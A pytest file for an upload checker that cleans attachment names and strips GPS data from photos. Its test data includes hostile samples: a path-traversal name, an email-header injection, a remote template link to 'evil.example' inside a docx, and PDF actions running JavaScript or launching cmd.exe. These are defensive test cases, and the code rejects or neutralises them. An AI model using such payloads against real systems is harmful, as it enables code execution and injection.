"""Names that lie to nobody, and photos that do not say where a child lives."""

from __future__ import annotations

import contextlib
import io
import random
import zipfile

import pytest
from flask import Flask

from tests.announcements.files import GPS, JPEG_AT_HOME, chunk, document, exif, jpeg, pdf, png, segment
from webapp.announcements.files.check import MOST_TOGETHER, BadFile, checked, tidy_name
from webapp.announcements.files.pictures import bare_jpeg, bare_png


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("Буйрук №282.pdf", "Буйрук №282.pdf"),
        ("C:\\Users\\Айгүл\\Desktop\\тизме.docx", "тизме.docx"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("order\u202efdp.exe", "orderfdp.exe"),
        ("a\r\nBcc: all@example.kg.pdf", "a Bcc- all@example.kg.pdf"),
        ('a"; filename="b.exe".pdf', "a-- filename=-b.exe-.pdf"),
        ("  .htaccess.txt ", "htaccess.txt"),
        ("a\u200b\u00ad\x00b.pdf", "ab.pdf"),
        ("й".encode().decode() + ".pdf", "й.pdf"),
        ("и\u0306.pdf", "й.pdf"),
        ("ж" * 300 + ".pdf", "ж" * 76 + ".pdf"),
        (".pdf", "pdf"),
        ("50%.pdf", "50-.pdf"),
    ],
)
def test_a_name_is_made_harmless(given: str, kept: str) -> None:
    assert tidy_name(given) == kept


def test_a_name_without_anything_is_called_a_file(app: Flask) -> None:
    for empty in ("", "///", "...", "\u202e"):
        assert tidy_name(empty) != ""


def test_a_file_without_an_ending_gets_its_own(app: Flask) -> None:
    assert checked("буйрук", pdf()).name == "буйрук.pdf"
    assert checked("IMG_1.JPEG", jpeg()).name == "IMG_1.JPEG"
    assert checked("v1.2", pdf()).name == "v1.2.pdf"


def test_a_photo_goes_without_where_it_was_taken(app: Flask) -> None:
    assert GPS in JPEG_AT_HOME
    photo = checked("photo.jpg", JPEG_AT_HOME)
    assert GPS not in photo.content
    assert photo.content.startswith(b"\xff\xd8\xff")
    assert photo.content.endswith(b"\xff\xd9")
    assert len(photo.content) > len(jpeg())  # which side is up


@pytest.mark.parametrize("order", [">", "<"])
@pytest.mark.parametrize("side", range(1, 9))
def test_a_photo_keeps_its_right_side_up(side: int, order: str) -> None:
    bare = bare_jpeg(jpeg(exif(side, order)))
    assert bare_jpeg(bare) == bare
    assert bare == (jpeg() if side == 1 else b"\xff\xd8" + _side(side) + jpeg()[2:])


def _side(side: int) -> bytes:
    tiff = b"MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01" + bytes([0, side]) + b"\0\0\0\0\0\0"
    return segment(0xE1, b"Exif\0\0" + tiff)


def test_pictures_hidden_behind_a_photo_are_cut_off() -> None:
    hidden = jpeg(exif(6))
    found = bare_jpeg(jpeg(segment(0xE2, b"MPF\0" + b"\0" * 20), after=hidden + GPS))
    assert found == jpeg()


def test_colours_stay() -> None:
    colours = segment(0xE2, b"ICC_PROFILE\0\x01\x01" + b"\0" * 40)
    assert bare_jpeg(jpeg(colours)) == jpeg(colours)


@pytest.mark.parametrize(
    "notes", [b"Exif\0\0", b"Exif\0\0MM\0*\xff\xff\xff\xff", b"Exif\0\0XX\0*\0\0\0\x08", b""]
)
def test_notes_that_are_broken_are_only_left_out(notes: bytes) -> None:
    assert bare_jpeg(jpeg(segment(0xE1, notes))) == jpeg()


def test_a_png_goes_without_notes() -> None:
    assert bare_png(png(GPS)) == png()
    assert bare_png(png() + GPS) == png()
    with_exif = png().replace(chunk(b"IEND", b""), chunk(b"eXIf", GPS) + chunk(b"IEND", b""))
    assert bare_png(with_exif) == png()


@pytest.mark.parametrize("cut", range(2, 130, 7))
def test_a_photo_cut_anywhere_is_damaged(app: Flask, cut: int) -> None:
    for name, whole in (("a.jpg", JPEG_AT_HOME), ("a.png", png(GPS))):
        with pytest.raises(BadFile):
            checked(name, whole[: len(whole) - cut])


REMOTE = "word/_rels/settings.xml.rels"
LINK = '<Relationship Id="rId1" Type="http://x/attachedTemplate" Target="{}" TargetMode="External"/>'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", document("word/document.xml", "word/embeddings/run.exe")),
        ("a.docx", document("word/document.xml", "word/embeddings/list.xlsm")),
        ("a.xlsx", document("xl/workbook.xml", "xl/embeddings/x.JS")),
        ("a.docx", document("word/document.xml", {REMOTE: LINK.format("https://evil.example/x.dotm")})),
        ("a.docx", document("word/document.xml", {REMOTE: LINK.format("\\\\evil.example\\x.dotm")})),
        ("a.pdf", pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
        ("a.pdf", pdf("/OpenAction<</S /Launch /F(cmd.exe)>>")),
    ],
)
def test_a_program_within_a_document_goes_to_nobody(app: Flask, name: str, content: bytes) -> None:
    with pytest.raises(BadFile, match=r"программа|program"):
        checked(name, content)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", document("word/document.xml", "word/embeddings/chart.xlsx", "word/media/photo.jpg")),
        ("a.docx", document("word/document.xml", {REMOTE: LINK.format("file:///C:/Users/Templates/a.dotm")})),
        ("a.pdf", pdf("/JavaScripts /Launcher /JS")),
    ],
)
def test_what_only_looks_like_one_goes(app: Flask, name: str, content: bytes) -> None:
    assert checked(name, content).content == content


@pytest.mark.parametrize("method", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2, zipfile.ZIP_DEFLATED])
def test_a_document_with_any_byte_wrong_is_told_or_taken(app: Flask, method: int) -> None:
    out, chance = io.BytesIO(), random.Random(95)
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("[Content_Types].xml", "<Types>" + "x" * 500 + "</Types>")
        archive.writestr("word/document.xml", "<a/>" * 50)
    for _ in range(300):
        broken = bytearray(out.getvalue())
        for _ in range(chance.randint(1, 6)):
            broken[chance.randrange(len(broken))] = chance.randrange(256)
        with contextlib.suppress(BadFile):
            checked("a.docx", bytes(broken))


def test_files_and_a_letter_fit_into_what_mail_servers_take() -> None:
    # Base64 in lines of 76 characters and a line's end, beside the text.
    assert MOST_TOGETHER * 78 / 57 + 50_000 < 10_240_000
